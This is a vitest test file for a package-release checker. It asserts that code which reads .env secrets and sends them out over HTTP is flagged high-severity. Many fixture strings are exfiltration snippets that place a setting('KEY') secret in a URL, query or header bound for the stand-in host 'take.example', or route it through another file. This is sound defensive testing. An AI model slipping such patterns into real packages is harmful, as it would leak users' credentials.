import { describe, expect, it } from 'vitest';
import { diffProfiles } from '../../src/diffs/diff-profiles.ts';
import { judgeRelease } from '../../src/policies/judge-release.ts';
import { profileOf } from '../profiles/profile-of.ts';

const settings = `import fs from 'node:fs';
import dotenv from 'dotenv';
export function setting(key) {
  return dotenv.parse(fs.readFileSync('.env', 'utf8'))[key];
}
`;

function release(version: string, code: string, more = ''): Parameters<typeof profileOf>[0] {
  return {
    'package.json': JSON.stringify({ name: 'models', version, type: 'module', main: 'index.js' }),
    'settings.js': settings + more,
    'index.js': code,
  };
}

function told(code: string, more?: string): readonly string[] {
  const begin =
    "import http from 'node:http';\nimport fs from 'node:fs';\nimport dotenv from 'dotenv';\nimport { setting, place } from './settings.js';\n";
  const diff = diffProfiles(
    profileOf(release('1.1.0', begin)),
    profileOf(release('1.2.0', `${begin}export function list(other) {\n${code}\n}\n`, more)),
  );
  const severities = judgeRelease({ diff, subject: 'pkg:npm/models@1.2.0', firstSight: false })
    .filter(({ rule }) => rule === 'secret-sent')
    .map(({ severity }) => severity);
  return [...new Set(severities)];
}

const url = "const url = new URL(setting('BASE_URL'));";
const options =
  "const options = { hostname: url.hostname, port: url.port, path: `${url.pathname}/tags`, method: 'GET' };";

describe('an address that is configured in an environment file, and taken apart to ask it', () => {
  it.each([
    ['options with a name', `${url} ${options} return http.request(options);`],
    [
      'options where they are used',
      `${url} return http.get({ host: url.host, path: url.pathname + url.search });`,
    ],
    [
      'a method that is set later',
      `${url} ${options} options.method = 'POST'; return http.request(options);`,
    ],
    [
      'a function that is given it',
      `function ask(base = 'http://localhost:11434') { const url = new URL(base); ${options} return http.request(options); } return ask(setting('BASE_URL'));`,
    ],
  ])('is not loud: %s', (_, code) => {
    expect(told(code)).toEqual(['medium']);
  });

  it.each([
    [
      'another address is taken apart for the host',
      "const url = new URL(setting('BASE_URL')); const to = new URL(other); return http.request({ hostname: to.hostname, path: url.pathname });",
    ],
    [
      'the host is a variable',
      `${url} return http.request({ hostname: other, path: url.pathname });`,
    ],
    [
      'the host is fixed',
      `${url} return http.request({ hostname: 'take.example', path: url.pathname });`,
    ],
    [
      'something fixed stands behind the secret',
      `const url = new URL(\`https://\${setting('KEY')}.take.example\`); ${options} return http.request(options);`,
    ],
    [
      'the secret is a part of an address',
      `const url = new URL(other + '?key=' + setting('KEY')); ${options} return http.request(options);`,
    ],
    [
      'a list becomes the address',
      `const url = new URL([other, setting('KEY')].toString()); ${options} return http.request(options);`,
    ],
    [
      'the address is filled up with another one',
      `const url = new URL(setting('KEY').padStart(300, other)); ${options} return http.request(options);`,
    ],
    [
      'another setting goes along in the path',
      `${url} return http.request({ hostname: url.hostname, path: url.pathname + '?key=' + setting('KEY') });`,
    ],
    [
      'another setting goes along in a header',
      `${url} return http.request({ hostname: url.hostname, path: url.pathname, headers: { key: setting('KEY') } });`,
    ],
    [
      'the host is set later',
      `${url} ${options} options.hostname = other; return http.request(options);`,
    ],
    [
      'the host of the address is set later',
      `${url} url.hostname = other; ${options} return http.request(options);`,
    ],
    [
      'a function is given the address first',
      `${url} Object.assign(url, other); ${options} return http.request(options);`,
    ],
    [
      'something else finds the host',
      `${url} return http.request({ hostname: url.hostname, path: url.pathname, lookup: other });`,
    ],
    [
      'other options come with it',
      `${url} return http.request({ hostname: url.hostname, path: url.pathname, ...other });`,
    ],
  ])('is loud: %s', (_, code) => {
    expect(told(code)).toContainEqual(expect.stringMatching(/^(?:high|critical)$/u));
  });

  it('is loud where another file puts it together', () => {
    const code = `const url = new URL(place()); ${options} return http.request(options);`;
    expect(
      told(code, "export const place = () => 'https://take.example/' + setting('KEY');"),
    ).toEqual(['high']);
  });

  it.each([
    ['a sum', 'globalThis.where + key'],
    ['an address that is relative to another one', 'new URL(key, globalThis.where).href'],
    ['a list', '[globalThis.where, key].toString()'],
    ['a text that is filled up', 'key.padStart(300, globalThis.where)'],
    ['a part of another address', 'Object.assign(new URL(globalThis.where), { search: key }).href'],
  ])('is loud where a function of another file is given it: %s', (_, made) => {
    const code = `const url = new URL(place(setting('KEY'))); ${options} return http.request(options);`;
    expect(told(code, `export const place = (key) => ${made};`)).toEqual(['high']);
  });

  it('is loud where a function of another file is given what this one read', () => {
    const read = "dotenv.parse(fs.readFileSync('.env', 'utf8')).KEY";
    const code = `const url = new URL(place(${read})); ${options} return http.request(options);`;
    expect(told(code, 'export const place = (key) => globalThis.where + key;')).toContainEqual(
      expect.stringMatching(/^(?:high|critical)$/u),
    );
  });

  it('is not loud where a function of another file is given something else', () => {
    const code = `const url = new URL(place(other)); ${options} return http.request(options);`;
    const of = 'export const place = (folder) => setting(folder || "URL");';
    expect(told(code, of)).toEqual(['medium']);
  });

  it('is not loud where a function of another file is told its name', () => {
    const code = `const url = new URL(place('KEY')); ${options} return http.request(options);`;
    expect(told(code, 'export const place = (key) => setting(key).trim();')).toEqual(['medium']);
  });
});
